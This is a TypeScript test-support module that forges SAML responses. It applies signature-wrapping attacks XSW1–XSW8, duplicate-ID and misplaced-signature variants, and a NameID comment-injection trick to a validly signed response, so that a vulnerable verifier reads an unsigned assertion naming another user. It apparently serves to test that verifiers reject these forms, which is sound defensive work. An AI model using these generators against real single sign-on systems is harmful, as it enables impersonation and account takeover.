/**
 * Signature-wrapping attacks (XSW1–XSW8, Somorovsky et al., "On Breaking SAML", USENIX Security 2012) and the
 * comment-truncation attack, applied to a validly signed response. Each keeps the genuine signature and adds an
 * "evil" assertion that a vulnerable verifier would read. Test support, runs in Node.
 */
import { DOMParser, XMLSerializer, type Document, type Element } from "@xmldom/xmldom";

const SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
const SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol";
const DS = "http://www.w3.org/2000/09/xmldsig#";

import type { WrappingAttack } from "./types";

function children(element: Element, ns: string, localName: string): Element[] {
  const out: Element[] = [];
  for (let node = element.firstChild; node; node = node.nextSibling) {
    if (node.nodeType === 1 && (node as Element).namespaceURI === ns && (node as Element).localName === localName) out.push(node as Element);
  }
  return out;
}

/** The evil twin: a copy of the assertion naming someone else, without its signature. */
function evilAssertion(assertion: Element, nameId: string, id: string): Element {
  const evil = assertion.cloneNode(true) as Element;
  evil.setAttribute("ID", id);
  for (const signature of children(evil, DS, "Signature")) evil.removeChild(signature);
  const subject = children(evil, SAML, "Subject")[0]!;
  const name = children(subject, SAML, "NameID")[0]!;
  name.textContent = nameId;
  return evil;
}

export function wrap(signedXml: string, attack: WrappingAttack, victim: string): string {
  const doc: Document = new DOMParser().parseFromString(signedXml, "text/xml");
  const response = doc.documentElement!;
  const assertion = children(response, SAML, "Assertion")[0]!;
  const assertionSignature = children(assertion, DS, "Signature")[0];
  const responseSignature = children(response, DS, "Signature")[0];
  const evil = evilAssertion(assertion, victim, "_evil");
  switch (attack) {
    case "xsw1": {
      // Response signature: the signed original response moves into the Signature; the outer one is evil.
      const original = response.cloneNode(true) as Element;
      for (const signature of children(original, DS, "Signature")) original.removeChild(signature);
      const object = doc.createElementNS(DS, "ds:Object");
      object.appendChild(original);
      responseSignature!.appendChild(object);
      response.setAttribute("ID", "_evil_response");
      response.replaceChild(evil, assertion);
      break;
    }
    case "xsw2": {
      // As XSW1, but the original response sits beside the signature (detached) instead of inside it.
      const original = response.cloneNode(true) as Element;
      for (const signature of children(original, DS, "Signature")) original.removeChild(signature);
      response.insertBefore(original, responseSignature!);
      response.setAttribute("ID", "_evil_response");
      response.replaceChild(evil, assertion);
      break;
    }
    case "xsw3":
      // Evil assertion before the signed one, as its sibling.
      response.insertBefore(evil, assertion);
      break;
    case "xsw4":
      // Evil assertion wraps the signed one.
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    case "xsw5": {
      // The evil assertion carries the genuine signature; the signed original is moved to the end.
      evil.insertBefore(assertionSignature!.cloneNode(true), children(evil, SAML, "Subject")[0]!);
      response.replaceChild(evil, assertion);
      assertion.removeChild(assertionSignature!);
      response.appendChild(assertion);
      break;
    }
    case "xsw6": {
      // As XSW5, with the signed original (signature and all) placed inside the copied signature.
      const signature = assertionSignature!.cloneNode(true) as Element;
      signature.appendChild(assertion.cloneNode(true));
      evil.insertBefore(signature, children(evil, SAML, "Subject")[0]!);
      response.replaceChild(evil, assertion);
      break;
    }
    case "xsw7": {
      // The signed original hides in an Extensions element; the evil assertion is where a reader looks.
      const extensions = doc.createElementNS(SAMLP, "saml2p:Extensions");
      response.replaceChild(evil, assertion);
      extensions.appendChild(assertion);
      response.insertBefore(extensions, evil);
      break;
    }
    case "xsw8": {
      // The evil assertion holds the signature, which holds an Object with the original (unsigned copy).
      const signature = assertionSignature!.cloneNode(true) as Element;
      const object = doc.createElementNS(DS, "ds:Object");
      const original = assertion.cloneNode(true) as Element;
      for (const s of children(original, DS, "Signature")) original.removeChild(s);
      object.appendChild(original);
      signature.appendChild(object);
      evil.insertBefore(signature, children(evil, SAML, "Subject")[0]!);
      response.replaceChild(evil, assertion);
      break;
    }
    case "duplicate_id": {
      // An evil assertion with the same ID as the signed one, first in the document.
      evil.setAttribute("ID", assertion.getAttribute("ID")!);
      response.insertBefore(evil, assertion);
      break;
    }
    case "reference_other_element": {
      // The assertion's signature is moved onto the response: valid, but it covers the assertion, not its parent.
      assertion.removeChild(assertionSignature!);
      response.insertBefore(assertionSignature!, children(response, SAMLP, "Status")[0]!);
      break;
    }
  }
  return new XMLSerializer().serializeToString(doc);
}

/** CVE-2017-11427 family: a comment inside the signed NameID, which C14N drops, so the signature still holds. */
export function injectComment(signedXml: string, nameId: string, at: number): string {
  return signedXml.replace(`>${nameId}</`, `>${nameId.slice(0, at)}<!---->${nameId.slice(at)}</`);
}
